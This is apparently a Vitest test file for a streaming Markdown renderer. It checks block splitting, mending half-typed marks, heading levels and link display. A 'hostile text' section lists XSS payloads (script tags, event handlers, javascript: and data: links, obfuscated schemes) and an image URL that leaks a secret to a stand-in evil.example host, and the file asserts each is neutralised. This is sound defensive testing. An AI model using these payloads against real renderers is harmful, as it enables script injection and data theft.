import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, test } from 'vitest';
import { BlockSplitter, mend } from './blocks';
import { safeLink } from './links';
import { Markdown } from './markdown';

const drawn = (text: string): string => renderToStaticMarkup(<Markdown text={text} />);

const DOCUMENT = `# Report

Some **bold**, *italic*, ~~gone~~ and \`code\` with a [link](https://example.com/a) and <b>html</b>.

- one
- two
  - nested

  a loose paragraph
- [x] done
- [ ] open

1. first
2. second

| Name | Count |
|:-----|------:|
| a    | 1     |
| b \\| c | 2   |

\`\`\`python
def hello():
    return "<script>"
\`\`\`

> quoted *text*
> more

### Deep

See [ref] and ![pic](https://evil.example/x.png).

---

[ref]: https://example.com/ref "Title"
`;

test('text that arrives in pieces ends as the same page as text that came whole', () => {
  const whole = drawn(DOCUMENT);
  for (const size of [1, 3, 7, 40]) {
    const splitter = new BlockSplitter();
    for (let end = 0; end < DOCUMENT.length; end += size) splitter.update(DOCUMENT.slice(0, end), false);
    const blocks = splitter.update(DOCUMENT, true);
    const fresh = new BlockSplitter().update(DOCUMENT, true);
    expect(blocks.map((block) => block.raw)).toEqual(fresh.map((block) => block.raw));
    expect(blocks.map((block) => block.token)).toEqual(fresh.map((block) => block.token));
    expect(drawn(DOCUMENT)).toBe(whole);
  }
});

test('the blocks before the growing one are always the text as it came', () => {
  const splitter = new BlockSplitter();
  for (let end = 1; end <= DOCUMENT.length; end += 1) {
    const text = DOCUMENT.slice(0, end);
    const before = splitter.update(text, false).slice(0, -1);
    expect(text.startsWith(before.map((block) => block.raw).join(''))).toBe(true);
  }
});

test('blocks far above are not drawn again while the text grows', () => {
  const splitter = new BlockSplitter();
  const early = splitter.update('One\n\nTwo\n\nThree\n\nFour', false);
  const late = splitter.update('One\n\nTwo\n\nThree\n\nFour and more', false);
  expect(late[0]).toBe(early[0]);
  expect(late[2]).toBe(early[2]);
});

test('headings begin under the page heading and never skip a level', () => {
  expect(drawn('### Deep\n\n##### Deeper\n\n# Top')).toMatch(/<h2>Deep<\/h2>.*<h3>Deeper<\/h3>.*<h2>Top<\/h2>/);
});

test('a character that is written by its name is drawn, and what is no such name stays as it is', () => {
  expect(drawn('1 &ndash; 2 &#38; &valueOf; &nothing;')).toContain('1 – 2 &amp; &amp;valueOf; &amp;nothing;');
});

test('half-open marks are closed while more text is on its way', () => {
  expect(mend('some **bo')).toBe('some **bo**');
  expect(mend('some `co')).toBe('some `co`');
  expect(mend('see [the li')).toBe('see the li');
  expect(mend('see [the link](https://exa')).toBe('see the link');
  expect(mend('plain')).toBe('plain');
});

test('a link shows where it goes, unless its text says so', () => {
  expect(drawn('[docs](https://example.com/x)')).toContain('(example.com)');
  expect(drawn('https://example.com/x')).not.toContain('(example.com)');
  expect(drawn('[example.org](https://example.com/x)')).toContain('(example.com)');
  expect(drawn('[docs](https://example.com/x)')).toContain('rel="noopener noreferrer nofollow ugc"');
});

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <img src="https://evil.example/p.png"> text',
  '<svg onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox)',
  '![x](https://evil.example/leak?d=secret)',
  '![x](javascript:alert(1))',
  '[![x](https://evil.example/i.png)](javascript:alert(1))',
  '<https://user:pass@evil.example>',
  '<style>@import "https://evil.example"</style>',
  '<form action=https://evil.example><input></form>',
  '<base href="https://evil.example">',
  '<details open ontoggle=alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '[x]: javascript:alert(1)\n\n[x]',
  '<math><mi xlink:href="javascript:alert(1)">',
];

describe('hostile text', () => {
  test.each(HOSTILE)('%s makes no element of its own and loads nothing', (text) => {
    // The copy button's own icon is ours.
    const html = drawn(text).replace(/<svg class="icon".*?<\/svg>/g, '');
    expect(html).not.toMatch(/<(script|img|svg|iframe|style|form|input|base|details|math|object|embed|link|meta)[\s>]/i);
    expect(html).not.toMatch(/<[^>]*\s(href|src|action|style|srcset)="(?!https?:\/\/|mailto:)/i);
    expect(html).not.toMatch(/<[^>]*\son\w+=/i);
    expect(html).not.toMatch(/<[^>]*\ssrc=/i);
  });

  test('links with a user name, control characters or other schemes are dead', () => {
    for (const href of ['https://a:b@c.example', 'java\nscript:x', ' javascript:x', 'file:///etc/passwd', '//x.example', '/app/']) {
      expect(safeLink(href)).toBeNull();
    }
  });
});
